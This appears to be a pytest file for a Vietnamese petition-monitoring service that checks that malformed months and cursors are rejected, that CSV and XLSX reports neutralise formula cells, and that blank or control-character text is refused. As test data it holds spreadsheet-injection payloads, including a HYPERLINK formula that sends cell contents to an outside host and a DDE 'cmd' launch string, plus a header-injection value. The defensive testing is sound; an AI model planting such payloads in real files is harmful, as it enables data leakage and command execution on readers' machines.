"""Hostile input reaching monitoring: bad months and cursors, formulas and control characters in reports."""

import csv
import io
import uuid
from datetime import datetime, timedelta, timezone

import openpyxl
import pytest
from sqlalchemy import update

from services.monitoring.spot_checks.models import SpotCheck
from tests.support.apps import auth_headers
from tests.support.monitoring import assigned_petition, deliver, received, routed

UTC = timezone.utc
FORMULA = '=HYPERLINK("http://e.vn/?"&A1,"Bấm")'  # fits a code column: topics are a closed list now


@pytest.mark.parametrize("month", ["0001-01", "2025-01\n", "2025-01\r\nX-Evil: 1", "２０２５-01", " 2025-01", "1999-12"])
async def test_bad_months_are_a_422_on_month(client, settings, month):
    headers = auth_headers(settings, "committee")
    for report_format in ("json", "csv", "xlsx"):
        response = await client.get("/reports/monthly", params={"month": month, "format": report_format},
                                    headers=headers)
        assert response.status_code == 422, (month, response.text)
        assert response.json()["errors"][0]["field"] == "month"


@pytest.mark.parametrize("cursor", ["MjAyNS0wMS0wMVQwMDowMDowMHw3ZjNhYjQ2Mi0xMTExLTQxMTEtODExMS0xMTExMTExMTExMTE",
                                    "MDAwMS0wMS0wMVQwMDowMDowMCswMTowMHw3ZjNhYjQ2Mi0xMTExLTQxMTEtODExMS0xMTExMTExMTExMTE",
                                    "!!!", "4pyT", "YQ"])
async def test_forged_cursors_are_a_422_on_cursor(client, settings, cursor):
    # The first two decode to "2025-01-01T00:00:00|<uuid>" (no offset) and "0001-01-01T00:00:00+01:00|<uuid>".
    response = await client.get("/petitions", params={"cursor": cursor}, headers=auth_headers(settings, "committee"))
    assert response.status_code == 422, response.text
    assert response.json()["errors"][0]["field"] == "cursor"


async def _hostile_history(runtime, client, settings) -> None:
    at = datetime.now(UTC) - timedelta(days=90)
    # Codes and agency codes are free text in events (a topic is one of shared.events.Topic).
    for code, agency_code in ((FORMULA, "08.SGTVT"), ("@SUM(1+1)*cmd|' /C calc'!A0", "08.S\x01YT"),
                              ("+1", "-2"), ("\tthuế", "08.DL")):
        petition_id = uuid.uuid4()
        await deliver(runtime, received(petition_id, at, code=code),
                      routed(petition_id, at + timedelta(hours=1), agency_code=agency_code))
    resolved = await client.post(f"/petitions/{petition_id}/status-updates", headers=auth_headers(
        settings, "agency", "08.DL"), json={"status": "resolved", "resolution": "Đã giải quyết xong"})
    assert resolved.status_code in (200, 201), resolved.text
    today = datetime.now(UTC).date()
    created = await client.post("/spot-checks", headers=auth_headers(settings, "committee"), json={
        "period_from": str(today - timedelta(days=2)), "period_to": str(today + timedelta(days=1)),
        "assigned_to": "Ban Pháp chế"})
    assert created.status_code == 201, created.text
    async with runtime.uow() as uow:  # a value stored before input was checked, as old rows may hold
        await uow.session.execute(update(SpotCheck).values(assigned_to="Ban\x07 =Pháp chế\x1b"))
        await uow.commit()


def _formula_cells(values) -> list[str]:
    return [value for value in values if isinstance(value, str) and value[:1] and value[0] in "=+-@\t\r"]


async def test_report_cells_are_never_formulas_and_xlsx_always_renders(client, runtime, settings):
    await _hostile_history(runtime, client, settings)
    headers = auth_headers(settings, "committee")
    csv_answer = await client.get("/reports/monthly", params={"format": "csv"}, headers=headers)
    assert csv_answer.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(csv_answer.content.decode("utf-8-sig"))) for cell in row]
    assert "'" + FORMULA in cells and _formula_cells(cells) == []

    xlsx_answer = await client.get("/reports/monthly", params={"format": "xlsx"}, headers=headers)
    assert xlsx_answer.status_code == 200, xlsx_answer.text
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_answer.content))
    values = [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert _formula_cells(values) == []
    assert all(cell.data_type != "f" for sheet in workbook for row in sheet.iter_rows() for cell in row)
    assert any(isinstance(value, str) and value.startswith("'=HYPERLINK") for value in values)


@pytest.mark.parametrize("payload", [{"assigned_to": "Ban\x07Pháp chế"}, {"assigned_to": "   "},
                                     {"assigned_to": "Ban\u200bPháp chế"}])
async def test_spot_check_text_with_control_or_blank_is_refused(client, settings, payload):
    response = await client.post("/spot-checks", headers=auth_headers(settings, "committee"), json={
        "period_from": "2024-01-01", "period_to": "2024-12-31"} | payload)
    assert response.status_code == 422 and response.json()["errors"][0]["field"] == "assigned_to"


@pytest.mark.parametrize(("payload", "field"), [
    ({"status": "unresolved_lack_of_resources", "reason": "   "}, "reason"),
    ({"status": "resolved", "resolution": "\u200b"}, "resolution"),
    ({"status": "returned", "note": " \n "}, "note"),
    ({"status": "returned", "note": "Sai\x00 thẩm quyền"}, "note"),
])
async def test_blank_or_invisible_reasons_are_refused(client, runtime, settings, payload, field):
    petition_id = await assigned_petition(runtime)
    response = await client.post(f"/petitions/{petition_id}/status-updates", json=payload,
                                 headers=auth_headers(settings, "agency", "08.SGTVT"))
    assert response.status_code == 422, response.text
    assert response.json()["errors"][0]["field"] == field
